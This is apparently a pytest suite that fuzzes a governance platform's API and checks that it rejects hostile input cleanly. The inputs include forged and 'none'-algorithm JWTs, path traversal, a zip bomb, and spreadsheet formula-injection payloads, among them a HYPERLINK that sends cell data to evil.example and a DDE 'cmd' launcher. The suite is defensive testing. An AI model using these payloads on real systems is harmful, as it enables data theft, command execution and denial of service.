"""Hostile and malformed input through the public API: never a 5xx, always a clear 4xx
problem, and nothing written. Property-based over every documented route with
schemathesis, as several roles, plus hand-written attacks."""

import base64
import datetime
import io
import json
import time
import zipfile

import jwt
import openpyxl
import pytest
import requests
import schemathesis
from hypothesis import HealthCheck, given, settings
from schemathesis.checks import not_a_server_error
from schemathesis.specs.openapi.checks import (
    content_type_conformance,
    response_schema_conformance,
    status_code_conformance,
)

from common import xlsx
from services.tasks.taskflow.queries import XLSX_HEADERS
from tests.e2e.conftest import running_platform

ROLES = ("admin", "township", "member")
# Routes whose call changes who can sign in (tokens, passwords); exercised by hand below and in
# the access table instead, so the fuzzing cannot lock itself out.
EXCLUDED = (  # routes that would spend the roles' own sessions or logins mid-run
    "/api/v1/auth/logout",
    "/api/v1/auth/login",
    "/api/v1/auth/password",
    "/api/v1/people/{person_id}/account",
    "/api/v1/people/{person_id}/account/disable",
    "/api/v1/people/{person_id}/account/enable",
)


@pytest.fixture(scope="module")
def fuzz_platform(vhost, tmp_path_factory, pg_databases):
    """One platform for the module (a second one would share its broker vhost, and each
    call would reach either platform's services and databases). Its RPC deadline is generous: these tests look for wrong
    answers, not slow ones, and a 504 from a loaded test machine would hide them."""
    with running_platform(
        pg_databases,
        vhost,
        tmp_path_factory.mktemp("platform"),
        {"GOV_LOGIN_PER_MINUTE": "1000", "GOV_RPC_TIMEOUT": "20", "GOV_IMPORT_MAX_ROWS": "200"},
    ) as running:
        yield running


@pytest.fixture(scope="module")
def role_headers(fuzz_platform):
    return {role: fuzz_platform.login(role) for role in ROLES}


def openapi(fuzz_platform):
    return schemathesis.openapi.from_url(fuzz_platform.base_url + "/openapi.json").exclude(
        path=list(EXCLUDED)
    )


def test_hand_written_attacks(fuzz_platform):
    base = fuzz_platform.base_url
    admin = fuzz_platform.login("admin")
    people_before = requests.get(base + "/api/v1/people?per_page=1", headers=admin, timeout=10).json()[
        "meta"
    ]["total"]

    # an oversized body
    r = requests.post(
        base + "/api/v1/people",
        headers={**admin, "Content-Type": "application/json"},
        data=b"{" + b" " * (2 * 1024 * 1024) + b"}",
        timeout=30,
    )
    assert r.status_code == 413 and r.json()["code"] == "payload_too_large"
    # deeply nested JSON
    deep = "[" * 100_000 + "]" * 100_000
    r = requests.post(
        base + "/api/v1/people", headers={**admin, "Content-Type": "application/json"}, data=deep, timeout=30
    )
    assert r.status_code in (400, 413) and r.headers["Content-Type"].startswith("application/problem+json")
    # JSON that is not an object, and the wrong content type
    r = requests.post(base + "/api/v1/people", headers=admin, json=[1, 2], timeout=10)
    assert r.status_code == 422
    r = requests.post(
        base + "/api/v1/people", headers={**admin, "Content-Type": "text/plain"}, data="name=x", timeout=10
    )
    assert r.status_code == 415
    # malformed, forged and expired tokens
    for header in ("Bearer", "Basic YWRtaW46eA==", "Bearer a.b.c", "Bearer " + "x" * 5000):
        r = requests.get(base + "/api/v1/me", headers={"Authorization": header}, timeout=10)
        assert r.status_code == 401, header
    token = admin["Authorization"].split()[1]
    claims = json.loads(base64.urlsafe_b64decode(token.split(".")[1] + "=="))
    forged = jwt.encode({**claims, "roles": ["county_admin"]}, "not-the-secret", algorithm="HS256")
    assert (
        requests.get(
            base + "/api/v1/me", headers={"Authorization": f"Bearer {forged}"}, timeout=10
        ).status_code
        == 401
    )
    unsigned = jwt.encode({**claims}, None, algorithm="none")
    assert (
        requests.get(
            base + "/api/v1/me", headers={"Authorization": f"Bearer {unsigned}"}, timeout=10
        ).status_code
        == 401
    )
    expired_claims = {**claims, "exp": int(time.time()) - 10}
    expired = jwt.encode(expired_claims, "not-the-secret", algorithm="HS256")
    r = requests.get(base + "/api/v1/me", headers={"Authorization": f"Bearer {expired}"}, timeout=10)
    assert r.status_code == 401
    # a forged upload type: an "xlsx" that is not a workbook; a path in the file name
    r = requests.post(
        base + "/api/v1/imports/people",
        headers=admin,
        files={"file": ("../../etc/passwd.xlsx", b"not a zip")},
        timeout=30,
    )
    assert r.status_code == 400 and r.json()["code"] == "import_unreadable"
    r = requests.post(
        base + "/api/v1/imports/people",
        headers=admin,
        files={"file": ("people.exe", b"MZ\x90\x00")},
        timeout=30,
    )
    assert r.status_code == 400
    # traversal in path parameters never reaches a file
    for path in (
        "/api/v1/imports/..%2f..%2fetc/template",
        "/docs/static/..%2f..%2fREADME.md",
        "/console/%2e%2e/%2e%2e/README.md",
    ):
        r = requests.get(base + path, headers=admin, timeout=10)
        assert r.status_code in (400, 404, 422) or "Grassroots governance open platform" not in r.text

    # and nothing above was written
    people_after = requests.get(base + "/api/v1/people?per_page=1", headers=admin, timeout=10).json()["meta"][
        "total"
    ]
    assert people_after == people_before


def _problem(r, status: int, code: str) -> dict:
    assert r.status_code == status, (r.status_code, r.text)
    assert r.headers["Content-Type"].startswith("application/problem+json"), r.headers
    body = r.json()
    assert body["code"] == code, body
    return body


def test_ids_outside_positive_64_bits(fuzz_platform, role_headers):
    base, admin = fuzz_platform.base_url + "/api/v1", role_headers["admin"]
    # in a path: digits that no row can have name no record (werkzeug takes them all, the
    # database could not); what is not a number at all names no route
    for bad, code in (
        ("0", "not_found"),
        ("9223372036854775808", "not_found"),
        ("9" * 26, "not_found"),
        ("-1", "route_not_found"),
        ("6.5", "route_not_found"),
        ("1e3", "route_not_found"),
    ):
        for path in (f"/tasks/{bad}", f"/people/{bad}", f"/org-units/{bad}", f"/matters/{bad}/take"):
            method = requests.post if path.endswith("/take") else requests.get
            body = _problem(method(base + path, headers=admin, timeout=10), 404, code)
            assert body["title"] == ("找不到该记录" if code == "not_found" else "没有这个接口"), body
    # the largest id is an id: it names no row
    _problem(requests.get(f"{base}/tasks/{2**63 - 1}", headers=admin, timeout=10), 404, "not_found")
    r = requests.get(fuzz_platform.base_url + "/open311/v2/requests/0.json", timeout=10)
    assert r.status_code == 404 and r.json()[0]["code"] == 404
    # in a body: 422 with the field named, in Chinese or English
    township = role_headers["township"]
    me = requests.get(base + "/me", headers=township, timeout=10).json()
    before = requests.get(base + "/tasks?per_page=1", headers=township, timeout=10).json()["meta"]["total"]
    for bad in (0, -1, 2**63, 6.5, "6", True, None):
        task = {"title": "边界测试", "target_ids": [me["org_unit_id"], bad]}
        body = _problem(
            requests.post(base + "/tasks", headers=township, json=task, timeout=10), 422, "validation_failed"
        )
        assert set(body["errors"]) == {"target_ids"}, body
        english = requests.post(
            base + "/tasks", headers={**township, "Accept-Language": "en"}, json=task, timeout=10
        ).json()
        assert english["errors"]["target_ids"]["1"] == [
            "Field may not be null." if bad is None else "Must be a positive whole number id."
        ]
    # a query-string id is digits
    r = requests.get(base + "/households", headers=admin, params={"grid_id": "6.5"}, timeout=10)
    assert _problem(r, 422, "validation_failed")["errors"] == {"grid_id": ["应为正整数编号"]}
    after = requests.get(base + "/tasks?per_page=1", headers=township, timeout=10).json()["meta"]["total"]
    assert after == before


def test_integers_are_whole_and_deadlines_lie_ahead(fuzz_platform, role_headers):
    base, admin, township = (
        fuzz_platform.base_url + "/api/v1",
        role_headers["admin"],
        role_headers["township"],
    )
    matter = {
        "code": "EDGE01",
        "name": "边界事项",
        "category": "其他",
        "levels": ["village"],
        "default_days": 6.5,
    }
    body = _problem(
        requests.post(base + "/catalogue", headers=admin, json=matter, timeout=10), 422, "validation_failed"
    )
    assert body["errors"]["default_days"] == ["应为整数"]
    r = requests.post(
        base + "/catalogue", headers={**admin, "Accept-Language": "en"}, json=matter, timeout=10
    )
    assert r.json()["errors"]["default_days"] == ["Must be a whole number."]
    assert requests.get(base + "/catalogue/EDGE01", headers=admin, timeout=10).status_code == 404
    r = requests.post(base + "/catalogue", headers=admin, json={**matter, "default_days": 5}, timeout=10)
    assert r.status_code == 201 and r.json()["default_days"] == 5, r.text

    me = requests.get(base + "/me", headers=township, timeout=10).json()
    yesterday = (datetime.date.today() - datetime.timedelta(days=2)).isoformat()
    task = {"title": "过期测试", "target_ids": [me["org_unit_id"]], "deadline": yesterday}
    body = _problem(
        requests.post(base + "/tasks", headers=township, json=task, timeout=10), 422, "validation_failed"
    )
    assert body["errors"] == {"deadline": ["期限不能早于今天"]}
    r = requests.post(base + "/tasks", headers={**township, "Accept-Language": "en"}, json=task, timeout=10)
    assert r.json()["errors"] == {"deadline": ["The deadline cannot be before today."]}
    # a project's bidding deadline (a moment) must be in the future too
    project = {
        "title": "竞榜边界",
        "description": "x",
        "budget": 1000,
        "criteria": ["方案"],
        "matter_code": "EDGE01",
        "deadline": (datetime.datetime.now(datetime.UTC) - datetime.timedelta(minutes=1)).isoformat(),
    }
    r = requests.post(
        base + "/projects", headers={**township, "Accept-Language": "en"}, json=project, timeout=10
    )
    assert _problem(r, 422, "validation_failed")["errors"] == {
        "deadline": ["The deadline must lie in the future."]
    }


def test_wildcards_in_searches_match_themselves(fuzz_platform, role_headers):
    base, admin = fuzz_platform.base_url + "/api/v1", role_headers["admin"]
    member = requests.get(base + "/me", headers=role_headers["member"], timeout=10).json()
    for code, name in (("EDGE-P1", "满意度100%户"), ("EDGE-P2", "张_三"), ("EDGE-P3", "李\\四")):
        person = {"code": code, "name": name, "roles": ["resident"], "org_unit_id": member["org_unit_id"]}
        r = requests.post(base + "/people", headers=admin, json=person, timeout=10)
        assert r.status_code == 201, r.text

    def names(q):
        r = requests.get(base + "/people", headers=admin, params={"q": q, "per_page": 200}, timeout=10)
        assert r.status_code == 200, r.text
        return sorted(p["name"] for p in r.json()["items"])

    assert names("%") == ["满意度100%户"]
    assert names("0%户") == ["满意度100%户"]
    assert names("_") == ["张_三"]
    assert names("张_") == ["张_三"]
    assert names("\\") == ["李\\四"]
    assert names("%%") == [] and names("__") == []


# -- property-based, last: they write what they generate --------------------------------


@pytest.mark.parametrize("role", ["admin", "township"])
def test_workflows_along_the_openapi_links_never_reach_a_5xx(fuzz_platform, role):
    """Stateful: schemathesis chains operations along the document's links (a created task's
    id into GET/PATCH/approve/dispatch of that task, and so on) with generated inputs."""
    schema = openapi(fuzz_platform)
    linked = [
        (op.method, op.path)
        for op in (r.ok() for r in schema.get_all_operations())
        for response in op.definition.raw["responses"].values()
        if response.get("links")
    ]
    assert ("post", "/api/v1/tasks") in linked and len(linked) >= 10, linked
    seen: list[tuple[str, str, int]] = []
    headers = fuzz_platform.login(role)  # its own token: no earlier test can have spent it

    class Workflow(schema.as_state_machine()):
        def get_call_kwargs(self, case):
            return {"headers": headers, "timeout": 60}

        def after_call(self, response, case):
            super().after_call(response, case)
            seen.append((case.method, case.path, response.status_code))

        def validate_response(self, response, case, additional_checks=None, **kwargs):
            case.validate_response(response, checks=[not_a_server_error], transport_kwargs=kwargs or None)

    Workflow.run(
        settings=settings(
            max_examples=25,
            stateful_step_count=5,
            deadline=None,
            database=None,
            suppress_health_check=list(HealthCheck),
        )
    )
    assert seen and not [s for s in seen if s[2] >= 500], seen


def test_every_route_answers_within_its_contract(fuzz_platform, role_headers):
    """schemathesis generates requests for every documented operation, valid and invalid
    (ids at and beyond their declared bounds among them); each is sent as several roles and
    must get a documented status, content type and body — never a 5xx."""
    checks = [
        not_a_server_error,
        status_code_conformance,
        response_schema_conformance,
        content_type_conformance,
    ]
    tested = []
    for result in openapi(fuzz_platform).get_all_operations():
        operation = result.ok()

        @settings(max_examples=5, deadline=None, database=None, suppress_health_check=list(HealthCheck))
        @given(case=operation.as_strategy())
        def exercise(case):
            for role in ROLES:
                case.call_and_validate(headers=role_headers[role], checks=checks, timeout=60)

        exercise()
        tested.append(f"{operation.method.upper()} {operation.path}")
    assert len(tested) >= 100, tested


def _workbook(rows: list[list], padding: int = 0) -> bytes:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    if not padding:
        return out.getvalue()
    padded = io.BytesIO()  # the same workbook, its sheet inflating to `padding` more bytes
    with zipfile.ZipFile(out) as src, zipfile.ZipFile(padded, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            dst.writestr(
                info.filename, data + b" " * padding if info.filename.endswith("sheet1.xml") else data
            )
    return padded.getvalue()


def test_hostile_files_in_and_out(fuzz_platform):
    base = fuzz_platform.base_url + "/api/v1"
    admin = fuzz_platform.login("admin")
    people = [["编号", "姓名", "角色", "所属组织编码"]]
    catalogue_before = requests.get(base + "/catalogue", headers=admin, timeout=10).json()["meta"]["total"]

    # a zip bomb: small on the wire, 120 MB inflated; refused before parsing
    bomb = _workbook(people, padding=120 * 1024 * 1024)
    assert len(bomb) < 10 * 1024 * 1024
    for path, name in (("/imports/people", "人员.xlsx"), ("/catalogue/import", "事项.xlsx")):
        r = requests.post(base + path, headers=admin, files={"file": (name, bomb)}, timeout=60)
        assert r.status_code == 413 and r.json()["code"] == "import_too_large", r.text
        assert r.json()["title"] == "导入文件解压后过大(上限 100 MB)或压缩比异常,请拆分后再导入"

    # more rows than this platform allows (GOV_IMPORT_MAX_ROWS=200)
    many = _workbook(people + [[f"P{i}", "张三", "党员", "G1"] for i in range(250)])
    r = requests.post(
        base + "/imports/people",
        headers={**admin, "Accept-Language": "en"},
        files={"file": ("p.xlsx", many)},
        timeout=60,
    )
    assert (r.status_code, r.json()["code"], r.json()["title"]) == (
        422,
        "import_too_many_rows",
        "The import file has more than 200 rows; split it",
    )

    # a formula in a matter's name goes in as text and comes out of the export as text
    hostile = '=HYPERLINK("http://evil.example/?d="&A1,"点我")'
    row = [
        "ZX901",
        hostile,
        "其他",
        "村",
        "县委社会工作部",
        5,
        "否",
        "文字说明",
        "@SUM(1+1)",
        "+cmd|' /C calc'!A0",
        "在用",
    ]
    r = requests.post(
        base + "/catalogue/import",
        headers=admin,
        # typed as text (in Excel: with a leading apostrophe); a real formula would import empty
        files={"file": ("c.xlsx", xlsx.write_workbook("事项清单", XLSX_HEADERS, [row]))},
        timeout=60,
    )
    assert r.status_code == 200 and r.json()["created"] == 1, r.text
    assert (
        requests.get(base + "/catalogue", headers=admin, timeout=10).json()["meta"]["total"]
        == catalogue_before + 1
    )
    exported = requests.get(base + "/catalogue/export", headers=admin, timeout=30)
    [line] = [
        r
        for r in openpyxl.load_workbook(io.BytesIO(exported.content)).active.iter_rows()
        if r[0].value == "ZX901"
    ]
    for cell, text in ((line[1], hostile), (line[8], "@SUM(1+1)"), (line[9], "+cmd|' /C calc'!A0")):
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
